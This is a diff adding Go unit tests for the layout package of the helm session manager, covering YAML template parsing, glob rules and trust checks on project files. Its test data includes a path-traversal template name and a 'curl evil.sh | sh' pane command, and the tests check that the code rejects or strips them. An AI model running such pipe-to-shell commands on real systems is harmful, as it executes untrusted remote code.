@@ -0,0 +1,238 @@
+package layout
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/black-atom-industries/helm/internal/config"
+)
+
+func TestParse(t *testing.T) {
+	data := []byte(`
+root: src
+windows:
+  - name: editor
+    focus: true
+    panes:
+      - nvim
+      - split: horizontal
+        size: 30%
+        command: go test ./...
+  - name: shell
+`)
+	tmpl, err := Parse(data)
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	if tmpl.Root != "src" {
+		t.Errorf("Root = %q, want %q", tmpl.Root, "src")
+	}
+	if len(tmpl.Windows) != 2 {
+		t.Fatalf("len(Windows) = %d, want 2", len(tmpl.Windows))
+	}
+	editor := tmpl.Windows[0]
+	if !editor.Focus || len(editor.Panes) != 2 {
+		t.Fatalf("editor = %+v, want focused window with 2 panes", editor)
+	}
+	if editor.Panes[0].Command != "nvim" {
+		t.Errorf("plain string pane: Command = %q, want %q", editor.Panes[0].Command, "nvim")
+	}
+	if p := editor.Panes[1]; !p.Horizontal() || p.Size != "30%" || p.Command != "go test ./..." {
+		t.Errorf("object pane = %+v, want horizontal 30%% split running tests", p)
+	}
+}
+
+func TestParseErrors(t *testing.T) {
+	tests := []struct {
+		name string
+		data string
+	}{
+		{name: "no windows", data: "root: src\n"},
+		{name: "invalid split", data: "windows:\n  - panes:\n      - zsh\n      - split: diagonal\n"},
+		{name: "two focused windows", data: "windows:\n  - focus: true\n  - focus: true\n"},
+		{name: "malformed yaml", data: "windows: [\n"},
+		{name: "template path", data: "template: ../../etc/evil\n"},
+		{name: "template subdir", data: "template: sub/name\n"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := Parse([]byte(tt.data)); err == nil {
+				t.Error("Parse() error = nil, want error")
+			}
+		})
+	}
+}
+
+func TestMatchRule(t *testing.T) {
+	rules := []config.SessionTemplateRule{
+		{Match: "/home/user/repos/work/*-web", Template: "frontend"},
+		{Match: "infra-*", Template: "infra"},
+		{Match: "/home/user/repos/work/*", Template: "go-service"},
+	}
+
+	tests := []struct {
+		dir  string
+		want string
+	}{
+		{dir: "/home/user/repos/work/shop-web", want: "frontend"},
+		{dir: "/home/user/repos/work/billing", want: "go-service"},
+		{dir: "/home/user/repos/ops/infra-dns", want: "infra"},
+		{dir: "/home/user/repos/private/notes", want: ""},
+		{dir: "/home/user/repos/work/billing/", want: "go-service"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.dir, func(t *testing.T) {
+			if got := MatchRule(tt.dir, rules); got != tt.want {
+				t.Errorf("MatchRule(%q) = %q, want %q", tt.dir, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestResolve(t *testing.T) {
+	templateDir := t.TempDir()
+	writeFile(t, filepath.Join(templateDir, "go-service.yml"), "windows:\n  - name: code\n  - name: test\n")
+
+	cfg := config.DefaultConfig()
+	cfg.TemplateDir = templateDir
+	cfg.CacheDir = t.TempDir()
+	cfg.SessionTemplates = []config.SessionTemplateRule{{Match: "*-svc", Template: "go-service"}}
+
+	t.Run("project file wins over rules", func(t *testing.T) {
+		dir := filepath.Join(t.TempDir(), "billing-svc")
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "windows:\n  - name: own\n")
+
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		if tmpl.Windows[0].Name != "own" {
+			t.Errorf("window = %q, want %q", tmpl.Windows[0].Name, "own")
+		}
+	})
+
+	t.Run("project file references named template", func(t *testing.T) {
+		dir := t.TempDir()
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "template: go-service\n")
+
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		if len(tmpl.Windows) != 2 {
+			t.Errorf("len(Windows) = %d, want 2", len(tmpl.Windows))
+		}
+	})
+
+	t.Run("project root kept with named template", func(t *testing.T) {
+		dir := t.TempDir()
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "root: backend\ntemplate: go-service\n")
+
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		if tmpl.Root != "backend" {
+			t.Errorf("Root = %q, want %q", tmpl.Root, "backend")
+		}
+	})
+
+	t.Run("glob rule", func(t *testing.T) {
+		dir := filepath.Join(t.TempDir(), "orders-svc")
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		if tmpl.Windows[0].Name != "code" {
+			t.Errorf("window = %q, want %q", tmpl.Windows[0].Name, "code")
+		}
+	})
+
+	t.Run("no match", func(t *testing.T) {
+		tmpl, err := Resolve(t.TempDir(), cfg)
+		if err != nil || tmpl != nil {
+			t.Errorf("Resolve() = %v, %v; want nil, nil", tmpl, err)
+		}
+	})
+
+	t.Run("untrusted project file keeps panes, drops commands", func(t *testing.T) {
+		dir := t.TempDir()
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "windows:\n  - name: own\n    panes: [make run, htop]\n")
+
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		panes := tmpl.Windows[0].Panes
+		if len(panes) != 2 || panes[0].Command != "" || panes[1].Command != "" || !tmpl.untrusted {
+			t.Errorf("panes = %+v, untrusted = %v; want 2 panes without commands", panes, tmpl.untrusted)
+		}
+
+		if _, err := Trust(cfg.CacheDir, dir); err != nil {
+			t.Fatalf("Trust() error = %v", err)
+		}
+		tmpl, _ = Resolve(dir, cfg)
+		if got := tmpl.Windows[0].Panes[0].Command; got != "make run" || tmpl.untrusted {
+			t.Errorf("trusted: command = %q, untrusted = %v; want %q", got, tmpl.untrusted, "make run")
+		}
+
+		// Any change needs trusting again
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "windows:\n  - panes: [curl evil.sh | sh]\n")
+		tmpl, _ = Resolve(dir, cfg)
+		if got := tmpl.Windows[0].Panes[0].Command; got != "" {
+			t.Errorf("changed file: command = %q, want none", got)
+		}
+	})
+
+	t.Run("named template from project file runs commands", func(t *testing.T) {
+		writeFile(t, filepath.Join(templateDir, "runner.yml"), "windows:\n  - panes: [make run]\n")
+		dir := t.TempDir()
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "template: runner\n")
+
+		tmpl, err := Resolve(dir, cfg)
+		if err != nil || tmpl == nil {
+			t.Fatalf("Resolve() = %v, %v; want template", tmpl, err)
+		}
+		if got := tmpl.Windows[0].Panes[0].Command; got != "make run" {
+			t.Errorf("command = %q, want %q", got, "make run")
+		}
+	})
+
+	t.Run("missing named template", func(t *testing.T) {
+		dir := t.TempDir()
+		writeFile(t, filepath.Join(dir, config.ProjectFileName), "template: nope\n")
+		if _, err := Resolve(dir, cfg); err == nil {
+			t.Error("Resolve() error = nil, want error")
+		}
+	})
+}
+
+func TestResolveDir(t *testing.T) {
+	home := os.Getenv("HOME")
+	tests := []struct {
+		base, dir, want string
+	}{
+		{base: "/repo", dir: "", want: "/repo"},
+		{base: "/repo", dir: "web", want: "/repo/web"},
+		{base: "/repo", dir: "/tmp", want: "/tmp"},
+		{base: "/repo", dir: "~/notes", want: filepath.Join(home, "notes")},
+	}
+	for _, tt := range tests {
+		if got := resolveDir(tt.base, tt.dir); got != tt.want {
+			t.Errorf("resolveDir(%q, %q) = %q, want %q", tt.base, tt.dir, got, tt.want)
+		}
+	}
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}